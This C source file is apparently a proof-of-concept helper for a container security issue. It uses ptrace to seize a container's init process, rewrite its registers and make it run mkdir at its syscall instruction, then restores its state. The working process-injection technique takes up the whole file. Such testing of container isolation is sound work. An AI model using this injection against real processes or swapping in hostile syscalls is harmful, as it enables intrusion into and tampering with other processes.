/* inject_mkdir PID PATH: what an attacker with CAP_SYS_PTRACE does to a
 * parked container init (issue 30 item 3): seize it, stop it inside the
 * system call it is blocked in, make it run mkdir(PATH, 0755) at that
 * same syscall instruction, and put everything back.  Prints the result
 * ("mkdir=0" or "mkdir=-ERRNO") and exits 0 when the injection itself
 * worked, 2 when it could not be done.  x86_64 only. */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static int die(const char *what) {
  fprintf(stderr, "inject_mkdir: %s: %s\n", what, strerror(errno));
  return 2;
}

/* PATH onto the tracee's stack, well below its red zone. */
static int poke_path(pid_t pid, unsigned long long at, const char *path) {
  size_t len = strlen(path) + 1;
  for (size_t off = 0; off < len; off += sizeof(long)) {
    long word = 0;
    memcpy(&word, path + off, len - off < sizeof word ? len - off : sizeof word);
    if (ptrace(PTRACE_POKEDATA, pid, (void *)(at + off), (void *)word) < 0) return -1;
  }
  return 0;
}

static int inject(pid_t pid, const char *path) {
  struct user_regs_struct saved, r;
  if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) return die("PTRACE_GETREGS");
  errno = 0;
  long text = ptrace(PTRACE_PEEKTEXT, pid, (void *)(saved.rip - 2), 0);
  if (errno) return die("PTRACE_PEEKTEXT");
  if ((text & 0xffff) != 0x050f) {
    fprintf(stderr, "inject_mkdir: pid %d is not stopped after a syscall instruction\n", pid);
    return 2;
  }
  r = saved;
  unsigned long long at = (saved.rsp - 4096) & ~15ULL;
  if (poke_path(pid, at, path) < 0) return die("PTRACE_POKEDATA");
  r.rip = saved.rip - 2;
  r.orig_rax = (unsigned long long)-1; /* no restart of the interrupted call */
  r.rax = SYS_mkdir;
  r.rdi = at;
  r.rsi = 0755;
  if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0) return die("PTRACE_SETREGS");
  if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0) return die("PTRACE_SINGLESTEP");
  int st;
  if (waitpid(pid, &st, __WALL) != pid) return die("waitpid after the step");
  if (!WIFSTOPPED(st)) {
    fprintf(stderr, "inject_mkdir: pid %d did not stop after the step (status 0x%x)\n", pid, st);
    return 2;
  }
  if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) return die("PTRACE_GETREGS after the step");
  printf("mkdir=%lld\n", (long long)r.rax);
  if (ptrace(PTRACE_SETREGS, pid, 0, &saved) < 0) return die("PTRACE_SETREGS (restore)");
  return 0;
}

int main(int argc, char **argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: inject_mkdir PID PATH\n");
    return 2;
  }
  pid_t pid = atoi(argv[1]);
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return die("PTRACE_SEIZE");
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0) return die("PTRACE_INTERRUPT");
  int st;
  if (waitpid(pid, &st, __WALL) != pid) return die("waitpid");
  int rc = inject(pid, argv[2]);
  if (ptrace(PTRACE_DETACH, pid, 0, 0) < 0 && rc == 0) rc = die("PTRACE_DETACH");
  fflush(stdout);
  return rc;
}
